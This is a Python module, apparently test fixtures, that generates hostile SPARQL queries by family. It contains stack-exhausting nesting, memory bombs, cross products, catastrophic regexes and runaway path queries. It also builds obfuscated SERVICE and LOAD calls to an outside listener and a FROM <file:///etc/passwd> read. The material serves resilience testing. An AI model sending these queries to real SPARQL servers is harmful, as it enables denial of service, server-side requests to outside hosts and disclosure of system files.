"""Queries that mean harm, by family: what has brought SPARQL servers down, and what may reach out of them.

They hold no name of any graph, so that they run on each. `OUTSIDE` stands for the address of a listener.
"""

from collections.abc import Iterator

OUTSIDE = "http://outside.invalid/sparql"
_ALL = "?a ?b ?c . ?d ?e ?f . ?g ?h ?i"


def hostile_queries(address: str = OUTSIDE) -> dict[str, str]:
    """Return queries by `family/name`; those of the families `service` and `fetch` ask `address`."""
    families = {
        "nesting": _nesting(),
        "bomb": _bombs(),
        "product": _products(),
        "regex": _regexes(),
        "path": _paths(),
        "large": _large(),
        "service": _services(address),
        "fetch": _fetching(address),
    }
    return {f"{family}/{name}": query for family, found in families.items() for name, query in found}


def _nesting() -> Iterator[tuple[str, str]]:
    """Yield what makes a recursive parser, optimiser or destructor run out of stack."""
    for n in (150, 1_000, 15_000):
        yield f"braces-{n}", "SELECT * " + "{" * n + "?s ?p ?o" + "}" * n
        yield f"parentheses-{n}", "SELECT * { FILTER(" + "(" * n + "1" + ")" * n + ") }"
    for n in (180, 2_000):
        yield f"optional-{n}", "SELECT * {" + "OPTIONAL{" * n + "?s ?p ?o" + "}" * n + "}"
        yield f"exists-{n}", "SELECT * {" + "FILTER EXISTS{" * n + "?s ?p ?o" + "}" * n + "}"
        yield f"if-{n}", "SELECT * { FILTER(" + "IF(1," * n + "1" + ",0)" * n + ") }"
        yield f"subselect-{n}", "SELECT * {" + "{SELECT * {" * n + "?s ?p ?o" + "}}" * n + "}"
        yield f"path-{n}", "SELECT * { ?s " + "(" * n + "<x:a>" + ")*" * n + " ?o }"
    yield "not", "SELECT * { FILTER(" + "!" * 30_000 + "1) }"
    yield "union-flat", "SELECT * {" + "{}UNION" * 4_000 + "{} }"
    yield "optional-flat", "SELECT * {" + "OPTIONAL{?s ?p ?o}" * 1_700 + "}"
    yield "plus-flat", "SELECT * { FILTER(1=" + "1+" * 15_000 + "1) }"
    yield "or-flat", "SELECT * { FILTER(" + "1||" * 10_000 + "1) }"
    yield "sequence-flat", "SELECT * { ?s " + "<x:a>/" * 5_000 + "<x:a> ?o }"
    yield "collections", "SELECT * { ?s ?p " + "(" * 190 + "1" + ")" * 190 + " }"
    yield "open-braces", "SELECT * " + "{" * 32_000
    yield "hidden-braces", 'SELECT * { ?s ?p "' + "{" * 500 + '" } ' + "#{" * 500


def _bombs() -> Iterator[tuple[str, str]]:
    """Yield what grows in memory: texts that double, groups and sets of everything."""
    doubled = " ".join(f"BIND(CONCAT(?x{n},?x{n}) AS ?x{n + 1})" for n in range(40))
    yield "concat", f'SELECT (STRLEN(?x40) AS ?n) {{ BIND("0123456789" AS ?x0) {doubled} }}'
    replaced = " ".join(f'BIND(REPLACE(?x{n}, "a", "aaaaaaaaaa") AS ?x{n + 1})' for n in range(12))
    yield "replace", f'SELECT (STRLEN(?x12) AS ?n) {{ BIND("aaaaaaaaaa" AS ?x0) {replaced} }}'
    encoded = " ".join(f"BIND(ENCODE_FOR_URI(?x{n}) AS ?x{n + 1})" for n in range(60))
    yield "encode", f'SELECT (STRLEN(?x60) AS ?n) {{ BIND("%%%%%%%%%%%%" AS ?x0) {encoded} BIND(?x60 AS ?y) }}'
    grown = " ".join(f"BIND(CONCAT({','.join([f'?x{n}'] * 10)}) AS ?x{n + 1})" for n in range(10))
    yield "entities", f'SELECT ?x10 {{ BIND("lol" AS ?x0) {grown} }}'
    yield "group-concat", f"SELECT (GROUP_CONCAT(CONCAT(STR(?a),STR(?d),STR(?g))) AS ?x) {{ {_ALL} }}"
    yield "group-concat-separator", f'SELECT (GROUP_CONCAT(?c; separator="{"x" * 20_000}") AS ?x) {{ {_ALL} }}'
    yield "distinct", f"SELECT DISTINCT (CONCAT(STR(?c),STR(?f),STR(?i)) AS ?x) {{ {_ALL} }}"
    yield "group", f"SELECT ?c ?f ?i (COUNT(*) AS ?n) {{ {_ALL} }} GROUP BY ?c ?f ?i"
    yield "count-distinct", f"SELECT (COUNT(DISTINCT *) AS ?n) {{ {_ALL} }}"
    yield "hash", f"SELECT (MAX(SHA512(CONCAT(STR(?c),STR(?f)))) AS ?x) {{ {_ALL} }}"


def _products() -> Iterator[tuple[str, str]]:
    """Yield what multiplies everything with everything."""
    yield "select", f"SELECT * {{ {_ALL} }}"
    yield "count", f"SELECT (COUNT(*) AS ?n) {{ {_ALL} }}"
    yield "order", f"SELECT * {{ {_ALL} }} ORDER BY ?i ?f ?c LIMIT 1"
    yield "order-random", f"SELECT * {{ {_ALL} }} ORDER BY RAND() LIMIT 1"
    yield "offset", f"SELECT * {{ {_ALL} }} OFFSET 1000000000 LIMIT 1"
    yield "construct", f"CONSTRUCT {{ ?a ?e ?i . ?d ?h ?c . ?g ?b ?f }} {{ {_ALL} }}"
    yield "describe", "DESCRIBE * { ?s ?p ?o }"
    yield "describe-product", f"DESCRIBE ?a ?d ?g {{ {_ALL} }}"
    yield "everything", "SELECT * { GRAPH ?g { ?s ?p ?o } }"
    yield "everything-triples", "CONSTRUCT { ?s ?p ?o } { ?s ?p ?o }"
    yield "minus", f"SELECT * {{ {_ALL} MINUS {{ ?a ?y ?z . ?x ?e ?w }} }}"
    yield "not-exists", f"SELECT * {{ {_ALL} FILTER NOT EXISTS {{ ?x ?y ?z . ?u ?v ?w FILTER(?z != ?w) }} }}"
    yield "filter", f"SELECT * {{ {_ALL} FILTER(STR(?c) = CONCAT(STR(?f), STR(?i))) }}"
    yield "graphs", "SELECT * { GRAPH ?x { ?a ?b ?c } GRAPH ?y { ?d ?e ?f } GRAPH ?z { ?g ?h ?i } } LIMIT 99999999"
    yield "ask", f'ASK {{ {_ALL} FILTER(STR(?c) = "nowhere" && STR(?f) = "nowhere" && ?i = 7) }}'
    digits = "VALUES ?{0} {{ 0 1 2 3 4 5 6 7 8 9 }}"
    yield "digits", "SELECT * {" + " ".join(digits.format(f"d{n}") for n in range(12)) + "}"
    yield "optionals", "SELECT * {" + "".join(f"OPTIONAL {{ ?s{n} ?p{n} ?o{n} }}" for n in range(12)) + "}"


def _regexes() -> Iterator[tuple[str, str]]:
    """Yield patterns that take exponential time in engines that go back, or much memory in those that do not."""
    long = "a" * 5_000
    yield "backtracking", f'SELECT * {{ {_ALL} FILTER(REGEX("{long}b", "(a+)+$")) }}'
    yield "alternatives", f'SELECT * {{ ?a ?b ?c FILTER(REGEX(STR(?c), "{"(a|aa)+" * 500}$")) }}'
    yield "repetition", 'SELECT * { ?a ?b ?c FILTER(REGEX(STR(?c), "((a{1,1000}){1,1000}){1,1000}")) }'
    yield "unicode", 'SELECT * { ?a ?b ?c FILTER(REGEX(STR(?c), "(\\\\w{1,200}){1,200}", "i")) }'
    yield "of-data", "SELECT * { ?a ?b ?c . ?d ?e ?f FILTER(REGEX(STR(?c), STR(?f))) }"
    yield "replace", f'SELECT * {{ ?a ?b ?c . ?d ?e ?f BIND(REPLACE("{long}", "a*", STR(?c)) AS ?x) }}'


def _paths() -> Iterator[tuple[str, str]]:
    """Yield walks from everything to everything."""
    for name, path in (
        ("any", "(<x:a>|!<x:a>)*"),
        ("any-plus", "(<x:a>|!<x:a>)+"),
        ("both-ways", "(<x:a>|!<x:a>|^<x:a>|!^<x:a>)*"),
        ("nested", "(((<x:a>|!<x:a>)*)*/((<x:a>|!<x:a>)+)*)*"),
        ("sequence", "/".join(["(<x:a>|!<x:a>)*"] * 8)),
        ("optional", "/".join(["(<x:a>|!<x:a>)?"] * 40)),
    ):
        yield name, f"SELECT * {{ ?s {path} ?o }}"
        yield f"{name}-count", f"SELECT (COUNT(*) AS ?n) {{ ?s {path} ?o . ?o {path} ?x }}"


def _large() -> Iterator[tuple[str, str]]:
    """Yield queries that are long, or hold much."""
    yield "values", "SELECT * { VALUES ?x {" + "1 " * 15_000 + "} VALUES ?y {" + "2 " * 900 + "} }"
    yield "values-beyond", "SELECT * { VALUES ?x {" + "1 " * 40_000 + "} }"
    yield "literal", 'SELECT ("' + "x" * 32_000 + '" AS ?x) {}'
    yield "literals", 'SELECT (CONCAT("' + "x" * 30_000 + '", STR(?c)) AS ?x) { ?a ?b ?c . ?d ?e ?f }'
    yield "comment", "#" * 32_000 + "\nASK {}"
    yield "variables", "SELECT * {" + "".join(f"?v{n} ?w{n} ?x{n}." for n in range(1_500)) + "}"
    yield "in", "SELECT * { ?a ?b ?c FILTER(?c IN (" + ",".join(map(str, range(6_000))) + ")) }"
    yield "zeros", "SELECT * { BIND(" + "9" * 30_000 + " * 9 AS ?x) BIND(1e999999999 AS ?y) }"
    yield "quotes", "SELECT * { ?s ?p " + '"' * 30_001 + " }"
    yield "null", 'SELECT * { ?s ?p "\\u0000\x00" }'


def _services(address: str) -> Iterator[tuple[str, str]]:
    """Yield what asks another server, in the open and hidden."""
    ask = f"<{address}> {{ ?s ?p ?o }}"
    yield "plain", f"SELECT * {{ SERVICE {ask} }}"
    yield "silent", f"SELECT * {{ SERVICE SILENT {ask} }}"
    yield "case", f"SELECT * {{ sErViCe{ask} }}"
    yield "exists", f"SELECT * {{ ?a ?b ?c FILTER EXISTS {{ SERVICE {ask} }} }}"
    yield "not-exists", f"ASK {{ FILTER NOT EXISTS {{ SERVICE SILENT {ask} }} }}"
    yield "subselect", f"SELECT * {{ {{ SELECT ?s {{ SERVICE {ask} }} }} }}"
    yield "optional", f"SELECT * {{ OPTIONAL {{ SERVICE {ask} }} }}"
    yield "minus", f"SELECT * {{ ?a ?b ?c MINUS {{ SERVICE {ask} }} }}"
    yield "construct", f"CONSTRUCT {{ ?s ?p ?o }} {{ SERVICE {ask} }}"
    yield "bind", f"SELECT (EXISTS {{ SERVICE {ask} }} AS ?x) {{}}"
    yield "escape", f"SELECT * {{ \\u0053ERVICE {ask} }}"
    yield "escapes", "SELECT * {" + "".join(f"\\U{ord(c):08X}" for c in "service") + f" {ask} }}"
    yield "comment-before", f"SELECT * {{ SERVICE # {{}}\n {ask} }}"
    yield "after-text", f"SELECT * {{ BIND(\"#\" AS ?x) BIND('''it's \"\"''' AS ?y) SERVICE {ask} }}"
    yield "variable", f"SELECT * {{ VALUES ?x {{ <{address}> }} SERVICE ?x {{ ?s ?p ?o }} }}"
    yield "prefix", f"PREFIX x: <{address}> SELECT * {{ SERVICE x: {{ ?s ?p ?o }} }}"
    yield "prefix-joined", f"PREFIX : <{address}> SELECT * {{ SERVICE:x {{ ?s ?p ?o }} }}"
    yield "number-joined", f"SELECT * {{ ?a ?b 1SERVICE {ask} }}"
    yield "boolean-joined", f"SELECT * {{ {{}} UNION {{ ?a ?b trueSERVICE {ask} }} SERVICE {ask} }}"
    yield "comparison", f"PREFIX : <{address}> SELECT * {{ FILTER(1<2)SERVICE:x#>\n {{ ?s ?p ?o }} }}"
    yield "no-iri", f"PREFIX : <http://h:80> SELECT * {{ {{}} UNION {{ ?s ?p :SERVICE {ask} }} SERVICE {ask} }}"
    yield "no-text", f'SELECT * {{ VALUES ?x {{"""a"}} SERVICE {ask} #\\uD800"""\n}}'
    yield "no-escape", f'SELECT * {{ VALUES ?x {{"""a"}} SERVICE {ask} #\\x"""\n}}'
    yield "base", f"BASE <{address}> SELECT * {{ SERVICE <> {{ ?s ?p ?o }} }}"
    yield "return", f"SELECT * {{ #\rSERVICE {ask} }}"


def _fetching(address: str) -> Iterator[tuple[str, str]]:
    """Yield what other engines fetch: graphs, files, contexts."""
    yield "from", f"SELECT * FROM <{address}> {{ ?s ?p ?o }}"
    yield "from-named", f"SELECT * FROM NAMED <{address}> {{ GRAPH ?g {{ ?s ?p ?o }} }}"
    yield "from-file", "SELECT * FROM <file:///etc/passwd> { ?s ?p ?o }"
    yield "graph", f"SELECT * {{ GRAPH <{address}> {{ ?s ?p ?o }} }}"
    yield "describe", f"DESCRIBE <{address}>"
    yield "load", f"LOAD <{address}>"
    yield "load-after", f"SELECT * {{}} ; LOAD <{address}>"
